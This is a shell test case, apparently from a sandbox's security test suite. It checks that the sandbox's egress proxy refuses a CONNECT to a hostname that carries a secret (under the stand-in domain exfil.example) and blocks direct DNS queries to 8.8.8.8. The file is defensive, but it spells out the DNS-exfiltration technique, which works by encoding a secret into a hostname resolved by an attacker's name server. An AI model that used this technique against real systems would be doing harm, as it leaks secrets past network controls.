# net_dns_proxy: in proxy mode the only way out is agentbox's HTTP/SOCKS proxy. The probe asks
# it to CONNECT to a name that carries a secret (s3cr3t-<hex>.exfil.example:443): had the
# proxy resolved or dialled it, the secret would reach the attacker's name server. It also
# sends a DNS query straight to 8.8.8.8.
# Defence: the egress filter: deny first, no matching allow rule denies (HTTP 403 with
# X-Agentbox-Denied), before any lookup; the sandbox's namespace has no route (ENETUNREACH).
# Control: with --allow 127.0.0.1:PORT, a CONNECT through the same proxy reaches a test HTTP
# server on the host and fetches its page through the tunnel.

setup() {
	GREETING="PAGE-$(unique)"
	serve "$GREETING" http4
	cat >connect.py <<-'PY'
		import socket, sys
		target, path = sys.argv[1], sys.argv[2]
		s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
		s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
		head = b""
		while b"\r\n\r\n" not in head:
		    d = s.recv(4096)
		    if not d:
		        break
		    head += d
		status = head.split(b"\r\n")[0].decode(errors="replace")
		denied = [l for l in head.split(b"\r\n") if l.lower().startswith(b"x-agentbox-denied")]
		if " 200" not in status:
		    print("RESULT FAILED errno=0", status, *(d.decode() for d in denied))
		    sys.exit(1)
		s.sendall(f"GET {path} HTTP/1.0\r\nHost: {target}\r\n\r\n".encode())
		body = b""
		while True:
		    d = s.recv(4096)
		    if not d:
		        break
		    body += d
		print("RESULT SUCCESS through the tunnel:", body.split(b"\r\n\r\n", 1)[-1].decode(errors="replace"))
	PY
}

control() {
	ab python --net proxy --allow "127.0.0.1:$PORT_http4" -- /usr/bin/python3 connect.py "127.0.0.1:$PORT_http4" /
	case "$RESULT" in *"$GREETING"*) control_ok "--allow 127.0.0.1:$PORT_http4: $RESULT" ;; esac
	control_failed "an allowed CONNECT did not reach the host's test server" "$(evidence)"
}

attack() {
	local name
	name="s3cr3t-$(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' \n').exfil.example"
	ab python --net proxy -- /usr/bin/python3 connect.py "$name:443" /
	result_is SUCCESS && escaped "the proxy tunnelled to $name" "$(evidence)"
	case "$RESULT" in *" 403 "*X-Agentbox-Denied*) ;; *) escaped "no 403 with X-Agentbox-Denied for $name" "$(evidence)" ;; esac
	local denied=$RESULT
	ab python --net proxy -- "$BIN/sock" udp 8.8.8.8 53
	result_is SUCCESS && escaped "a DNS query to 8.8.8.8 got through in proxy mode" "$(evidence)"
	result_is SENT && escaped "a DNS query to 8.8.8.8 left in proxy mode" "$(evidence)"
	errno_is ENETUNREACH || escaped "no proof 8.8.8.8 was unreachable in proxy mode" "$(evidence)"
	blocked "CONNECT $name:443: $(printf '%s' "$denied" | cut -d' ' -f4-); UDP to 8.8.8.8:53: ENETUNREACH"
}
